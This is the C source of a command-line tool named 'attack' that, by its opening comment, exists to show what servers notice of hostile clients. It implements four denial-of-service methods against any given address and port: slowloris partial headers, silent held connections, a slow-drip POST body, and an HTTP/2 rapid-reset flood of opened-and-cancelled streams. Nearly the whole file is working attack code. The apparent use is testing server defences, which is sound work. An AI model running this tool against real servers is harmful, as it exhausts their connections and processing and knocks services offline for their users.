/* Clients that mean harm, to show what others notice of them. One of:
 *   loris     a request's head, a byte of it at a time, never ended
 *   silent    connections on which nothing comes
 *   trickle   a POST that announces a megabyte and sends a byte of it at a time
 *   resets    HTTP/2 streams that are opened and reset at once, as fast as they go
 * What is closed is made again: at most so many connections a second as is said.
 *
 *   gcc -O2 -o attack attack.c && ./attack KIND ADDRESS PORT CONNECTIONS CONNECTS_PER_SECOND SECONDS
 *
 * Writes how many connections it made, how many were closed on it, and how many it holds at the end.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MAX_LINKS = 32768, BATCH = 512, STREAMS_A_WRITE = 100, FRAMES = 16384, SOURCES = 4 };
static const int64_t SECOND = 1000000000, DRIP = 100000000; /* a byte of a drip every tenth of a second */

struct link { int fd; uint32_t stream; int64_t next_drip; };
static struct link links[MAX_LINKS];
static int lacking[MAX_LINKS], lacking_count; /* links without a connection */
static int epoll;
static struct sockaddr_in to;
static const char *start_text, *drip_text;
static int is_resets;
static long made, closed_on_us, refused, streams;

static int64_t now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * SECOND + t.tv_nsec;
}

static void lose(int n) {
    close(links[n].fd);
    links[n].fd = -1;
    lacking[lacking_count++] = n;
    closed_on_us++;
}

static void dial(int n) {
    int on = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) { perror("socket"); exit(1); }
    setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    if ((ntohl(to.sin_addr.s_addr) >> 24) == 127) {
        /* Where more than half of an address's ports are taken, the kernel looks for a free one for half a millisecond
         * a time, on a processor that the others need. */
        struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000002 + n % SOURCES)};
        setsockopt(fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
        if (bind(fd, (void *)&from, sizeof from)) { perror("bind"); exit(1); }
    }
    if (connect(fd, (void *)&to, sizeof to) && errno != EINPROGRESS) {
        close(fd);
        refused++;
        lacking[lacking_count++] = n;
        return;
    }
    links[n] = (struct link){.fd = fd};
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET, .data.u32 = n};
    epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event);
    made++;
}

static unsigned char *frame(unsigned char *at, int length, int kind, int flags, uint32_t stream) {
    unsigned char head[9] = {length >> 16, length >> 8, length, kind, flags, stream >> 24, stream >> 16, stream >> 8, stream};
    memcpy(at, head, 9);
    return at + 9;
}

/* Opens streams and resets each at once, until the socket is full. HPACK: three fields of the static table, and
 * `:authority: a`. */
static void flood(int n) {
    static const unsigned char fields[] = {0x82, 0x86, 0x84, 0x41, 0x01, 'a'};
    static const unsigned char cancel[] = {0, 0, 0, 8};
    static unsigned char bytes[FRAMES];
    unsigned char *at = bytes;
    struct link *link = &links[n];
    if (link->stream == 0) {
        static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
        memcpy(at, preface, sizeof preface - 1);
        at = frame(at + sizeof preface - 1, 0, 4, 0, 0);
        link->stream = 1;
    }
    for (int i = 0; i < STREAMS_A_WRITE; i++, link->stream += 2, streams++) {
        at = frame(at, sizeof fields, 1, 5, link->stream);
        memcpy(at, fields, sizeof fields);
        at = frame(at + sizeof fields, 4, 3, 0, link->stream);
        memcpy(at, cancel, 4);
        at += 4;
    }
    /* A write that is cut short would leave half a frame: such a connection is given up. */
    ssize_t sent = send(link->fd, bytes, at - bytes, MSG_NOSIGNAL);
    if (sent < 0 && errno == EAGAIN) { link->stream -= link->stream > 200 ? 200 : 0; return; }
    if (sent != at - bytes) lose(n);
}

static void happened(int n, uint32_t events, int64_t at) {
    static char bytes[65536];
    struct link *link = &links[n];
    if (link->fd < 0) return;
    if (events & (EPOLLERR | EPOLLHUP)) { lose(n); return; }
    if (events & EPOLLIN) {
        ssize_t got;
        while ((got = recv(link->fd, bytes, sizeof bytes, 0)) > 0) {}
        if (got == 0 || errno != EAGAIN) { lose(n); return; }
    }
    if (link->next_drip == 0 && events & EPOLLOUT) { /* connected just now */
        if (*start_text) (void)!send(link->fd, start_text, strlen(start_text), MSG_NOSIGNAL);
        link->next_drip = at + DRIP;
    }
}

/* A byte for each connection whose time has come. */
static void drip(int count, int64_t at) {
    for (int n = 0; n < count; n++) {
        if (links[n].fd < 0 || links[n].next_drip == 0 || at < links[n].next_drip) continue;
        links[n].next_drip = at + DRIP;
        (void)!send(links[n].fd, drip_text, 1, MSG_NOSIGNAL);
    }
}

int main(int argc, char **argv) {
    if (argc != 7) { fprintf(stderr, "usage: attack KIND ADDRESS PORT CONNECTIONS CONNECTS_PER_SECOND SECONDS\n"); return 2; }
    int count = atoi(argv[4]);
    double per_second = atof(argv[5]), seconds = atof(argv[6]), may_dial = 0;
    to = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(argv[3])), .sin_addr.s_addr = inet_addr(argv[2])};
    start_text = drip_text = "";
    if (!strcmp(argv[1], "loris")) start_text = "GET / HTTP/1.1\r\nHost: a\r\nX: ", drip_text = "x";
    else if (!strcmp(argv[1], "trickle")) start_text = "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", drip_text = "x";
    else if (!strcmp(argv[1], "resets")) is_resets = 1;
    else if (strcmp(argv[1], "silent")) { fprintf(stderr, "attack: no kind %s\n", argv[1]); return 2; }
    if (count < 1 || count > MAX_LINKS) { fprintf(stderr, "attack: out of range\n"); return 2; }
    epoll = epoll_create1(0);
    for (int n = count; n-- > 0;) { links[n].fd = -1; lacking[lacking_count++] = n; }

    int64_t begin = now(), end = begin + seconds * SECOND, last = begin, at;
    while ((at = now()) < end) {
        may_dial += (at - last) * per_second / SECOND;
        if (may_dial > count) may_dial = count;
        last = at;
        for (; may_dial >= 1 && lacking_count; may_dial--) {
            int before = lacking_count;
            dial(lacking[--lacking_count]);
            if (lacking_count == before) break; /* refused: not again in this turn */
        }
        struct epoll_event ready[BATCH];
        int got = epoll_wait(epoll, ready, BATCH, is_resets ? 1 : 5);
        for (int i = 0; i < got; i++) happened(ready[i].data.u32, ready[i].events, at);
        if (is_resets) { for (int n = 0; n < count; n++) if (links[n].fd >= 0 && links[n].next_drip) flood(n); }
        else if (*drip_text) drip(count, at);
    }
    printf("%ld connections made, %ld closed, %ld refused, %d held", made, closed_on_us, refused, count - lacking_count);
    if (is_resets) printf(", %ld streams reset", streams);
    printf("\n");
    return 0;
}
